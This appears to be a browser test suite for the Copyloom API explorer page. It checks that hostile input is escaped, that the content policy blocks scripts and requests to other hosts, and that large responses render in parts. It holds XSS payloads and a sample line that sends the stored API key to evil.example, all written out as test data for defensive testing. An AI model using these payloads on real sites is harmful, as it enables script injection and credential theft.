// The explorer with hostile content: it shows text, draws long answers in parts, and sends nothing elsewhere.
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { put, talk } from '../support/application/talk.ts';
import { onPage, pages } from '../support/browser/browser.ts';
import { lookUp, openWithKey } from './open-explorer.ts';

const hostile = [
  '<img src=x onerror="alert(1)">',
  '<script>alert(2)</script><iframe src="https://evil.example"></iframe>',
  '</pre></style><svg onload=alert(3)><a href="javascript:alert(4)">x</a>',
  '<link rel=stylesheet href=https://evil.example/a.css><meta http-equiv=refresh content="0;url=https://evil.example">',
  '\u202eelifotua \u2066turned\u2069 around\u200b \ufeff',
  `__proto__ {{constructor}} \${alert(5)} \u001b]8;;https://evil.example\u0007`,
  '![x](https://evil.example/a.png) [y](javascript:alert(6)) `code`',
];

/** Characters that must be escaped; the page's own markup contains line breaks and tabs. */
const unseen = /[\p{Bidi_Control}\u200b\ufeff]|(?![\n\t])\p{Cc}/u;

/** Elements that no view of the explorer contains. */
const foreignElements = `document.querySelectorAll(
  '#page :is(img, script, iframe, object, embed, link, meta, style, a[href^="javascript"], a[href^="http"])').length`;

describe('the explorer with hostile content', pages, () => {
  test('never interprets copied content', onPage, async (t) => {
    const { page, answerBody, assertNoFaults, go, send } = await openWithKey(t, { texts: hostile });
    await go('listHistory');
    assert.equal(await send(), 200);
    const shown = await answerBody.innerText();
    for (const text of hostile.filter((one) => one.startsWith('<')))
      assert.ok(shown.includes(JSON.stringify(text)), text);
    assert.ok(shown.includes('\\u202eelifotua \\u2066turned\\u2069 around\\u200b \\ufeff'));
    assert.doesNotMatch(shown, unseen);
    assert.equal(await lookUp(page, foreignElements), 0);
    await page.getByRole('button', { name: 'Raw' }).click();
    assert.doesNotMatch(await answerBody.innerText(), unseen);
    assert.equal(await lookUp(page, foreignElements), 0);
    assertNoFaults();
  });

  test('never interprets error messages, input or the address', onPage, async (t) => {
    const { served, page, answerBody, assertNoFaults, go, send } = await openWithKey(t);
    await go('getVariable');
    const turned = '\u202eyek\u202c \u2066x\u2069';
    await talk(served, 'PUT', '/v1/variables/turned', { hash: { [turned]: 1 } });
    await page.getByLabel('name').fill('turned');
    assert.equal(await send(), 200);
    assert.match(await answerBody.innerText(), /"\\u202eyek\\u202c \\u2066x\\u2069"/);
    await go('run');
    await page
      .getByRole('textbox', { name: 'Body' })
      .fill(JSON.stringify({ text: 'a', pipeline: 'upper', [turned]: 1 }));
    assert.equal(await send(), 400);
    assert.doesNotMatch(await page.locator('#page').innerText(), unseen);
    await go('getVariable');
    await page.getByLabel('name').fill('<img src=x onerror=alert(7)>');
    assert.equal(await send(), 404);
    assert.match(await answerBody.innerText(), /<img src=x onerror=alert\(7\)>/);
    await page.getByRole('searchbox').fill('<script>alert(8)</script>');
    await page.getByText('No results').waitFor();
    for (const hash of [
      '<img src=x onerror=alert(9)>',
      '%3Cscript%3Ealert(10)',
      '%',
      'javascript:alert(11)',
      '__proto__',
    ]) {
      await page.goto(`${served.url}/docs#${hash}`);
      await page.getByRole('heading', { level: 1, name: 'Copyloom API' }).waitFor();
    }
    assert.equal(await lookUp(page, foreignElements), 0);
    assertNoFaults();
  });

  test('blocks markup, scripts and foreign requests by policy', onPage, async (t) => {
    const { page, requests } = await openWithKey(t, { texts: hostile });
    const refused = (expression: string) =>
      page.evaluate(`(async () => { try { await ${expression}; return 'done' } catch { return 'refused' } })()`);
    for (const attempt of [
      'document.body.insertAdjacentHTML("beforeend", "<b>x</b>")',
      'Object.assign(document.createElement("div"), { innerHTML: "<b>x</b>" })',
      'setTimeout("alert(12)")',
      'fetch("https://evil.example/?" + localStorage.getItem("copyloom.apiKey"), { mode: "no-cors" })',
      'navigator.serviceWorker.register("/docs")',
    ])
      assert.equal(await refused(attempt), 'refused', attempt);
    const sent = requests.length;
    await page.evaluate(`document.body.append(Object.assign(document.createElement('img'), { src: '/v1/status' }))`);
    assert.equal(
      await page.evaluate(`new Promise((done) => Object.assign(document.createElement('img'),
      { onload: () => done('loaded'), onerror: () => done('blocked'), src: '/v1/history' }))`),
      'blocked',
    );
    assert.equal(requests.length, sent);
  });

  test(
    'draws only parts of a response of several megabytes, with what comes after them in reach',
    onPage,
    async (t) => {
      const { served, page, answerBody, assertNoFaults, go, send } = await openWithKey(t);
      await put(served, `${'<b>word</b> '.repeat(500_000)}end`);
      await go('getClipboard');
      assert.equal(await send(), 200);
      await page.getByRole('button', { name: /more of .* characters/ }).click();
      assert.match(await answerBody.innerText(), /"copies": 1/);
      await page.getByRole('button', { name: 'Raw' }).click();
      await page.getByRole('button', { name: /more of .* characters/ }).click();
      assert.ok((await answerBody.innerText()).length < 200_000);
      assert.equal(await lookUp(page, foreignElements), 0);
      assertNoFaults();
    },
  );

  test('shows a long list in parts', onPage, async (t) => {
    const { page, answerBody, assertNoFaults, go, send } = await openWithKey(t);
    await go('run');
    const list = JSON.stringify({
      text: Array.from({ length: 20_000 }, (_, index) => `row ${index}`).join('\n'),
      pipeline: 'lines',
    });
    await page.getByRole('textbox', { name: 'Body' }).fill(list);
    assert.equal(await send(), 200);
    assert.match(await answerBody.innerText(), /"row 99"/);
    assert.doesNotMatch(await answerBody.innerText(), /"row 100"/);
    await page.getByRole('button', { name: 'Show 100 more of 19,900' }).click();
    assert.match(await answerBody.innerText(), /"row 199"/);
    assertNoFaults();
  });
});
